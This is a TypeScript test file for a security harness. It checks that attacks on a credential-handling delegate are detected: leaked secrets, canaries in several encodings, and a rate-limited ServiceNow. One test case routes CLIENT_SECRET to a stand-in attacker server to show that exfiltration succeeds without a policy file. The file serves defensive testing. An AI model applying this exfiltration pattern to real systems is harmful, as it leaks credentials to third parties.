import { expect } from 'chai';
import { attack, basic, CHECK, connectorTo, question, VALIDATE, type Attack } from './attack.ts';
import { canariesIn, CANARIES } from './canaries.ts';
import { faultsOf, tryOut } from './trial.ts';
import { HostileWorld } from './world.ts';

/**
 * Without a policy file a secret is bound to where it first goes, and so goes wherever a connector first says: the one
 * attack on this delegate that succeeds, and the reason to write a policy file.
 */
const FIRST_USE = attack(
  'a secret that was never used, without a policy file',
  { on: 'fresh', comesTo: 'policy.secret-pinned', says: 'since its first use' },
  async (world, victim) => {
    await victim.start();
    return await victim.ask(VALIDATE, {
      connector: connectorTo(world.attacker.url, basic('env:CLIENT_SECRET')),
    });
  },
);

describe('how attacks are judged', () => {
  let world: HostileWorld;

  before(async () => {
    world = await HostileWorld.start();
  });

  after(() => world[Symbol.asyncDispose]());

  const faults = async (row: Attack): Promise<string[]> => faultsOf(row, await tryOut(row, world));

  it('tells of a secret that a server of the enemy was sent', async () => {
    const told = await faults(FIRST_USE);
    expect(told).to.include('CLIENT_SECRET got to a server of the enemy');
    expect(told.some((fault) => /^a server of the enemy got \d+ requests$/.test(fault))).to.equal(true);
    expect(told.some((fault) => fault.startsWith('it came to succeeded, not to'))).to.equal(true);
  });

  it('tells of a secret that the manager got', async () => {
    const told = await faults(
      attack('a guess', { on: 'default', comesTo: 'unknown-task' }, async (_world, victim) => {
        victim.manager.heard.push(JSON.stringify({ said: Buffer.from(CANARIES.FILE).toString('hex') }));
        return await victim.ask('no.such.task', {});
      }),
    );
    expect(told).to.deep.equal(['FILE got to the manager']);
  });

  it('tells of a delegate that does no honest task afterwards', async () => {
    const told = await faults(
      attack(
        'a ServiceNow that wants an hour',
        { on: 'fresh', comesTo: 'servicenow.rate-limited' },
        async (w, victim) => {
          await victim.start();
          w.serviceNow.reply = () => ({ status: 429, headers: { 'retry-after': '3600' }, body: {} });
          return await victim.ask(CHECK, question(connectorTo(w.serviceNow.url, basic())));
        },
      ),
    );
    expect(told).to.deep.equal(['an honest task afterwards came to servicenow.rate-limited']);
  });

  for (const [form, write] of Object.entries({
    'as it is': (text: string) => `x${text}y`,
    'by its end alone': (text: string) => text.slice(4),
    'by its beginning alone': (text: string) => text.slice(0, -4),
    'in a Basic header': (text: string) => `Basic ${Buffer.from(`me:${text}`).toString('base64')}`,
    'in a URL in JSON': (text: string) => JSON.stringify({ u: `/?p=${encodeURIComponent(text)}` }),
    'as bytes in JSON': (text: string) => JSON.stringify(Buffer.from(text)),
  })) {
    it(`finds a canary ${form}`, () => {
      expect(canariesIn(write(CANARIES.PASSWORD))).to.deep.equal(['PASSWORD']);
    });
  }

  it('takes nothing else for a canary', () => {
    expect(canariesIn('{"type":"task.result","token":"eyJhbGciOiJFZERTQSJ9.e30.AAAA"}')).to.deep.equal([]);
  });
});
